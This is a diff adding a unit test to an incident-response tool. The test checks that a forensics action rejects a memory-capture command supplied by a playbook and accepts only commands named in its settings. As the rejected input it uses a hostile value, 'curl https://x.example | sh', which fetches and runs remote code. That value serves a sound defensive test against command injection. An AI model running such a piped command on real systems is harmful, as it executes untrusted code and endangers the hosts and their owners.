@@ -153,6 +153,21 @@ def test_forensics_sends_one_command_per_section_and_a_retry_reuses_them(world: 
     assert again["Outputs"]["MemoryCapture"]["CommandId"] == result["Outputs"]["MemoryCapture"]["CommandId"]
 
 
+def test_a_playbook_cannot_give_the_memory_capture_command(world: World) -> None:
+    """Only the settings name the commands run on an instance; the argument once accepted is refused."""
+    tasks = reynard(world.endpoint, forensics={"memory_capture_command": "/usr/local/bin/avml /tmp/m.lime"})
+    arguments = {"InstanceId": world.instance, "MemoryCaptureCommand": "curl https://x.example | sh"}
+    with pytest.raises(StatesError) as info:
+        tasks.action("collect-forensics", arguments, context("Forensics"))
+    assert info.value.error == "Reynard.InvalidArguments"
+    assert info.value.cause == (
+        "collect-forensics: argument 'MemoryCaptureCommand' is not accepted: the commands run on an "
+        "instance come only from the settings ([respond.forensics] memory_capture_command, "
+        "windows_memory_capture_command), never from a playbook"
+    )
+    assert sent_commands(world) == []
+
+
 def test_without_a_memory_capture_command_the_result_says_it_was_skipped(world: World) -> None:
     result = reynard(world.endpoint).action(
         "collect-forensics", {"InstanceId": world.instance, "Platform": "windows"}
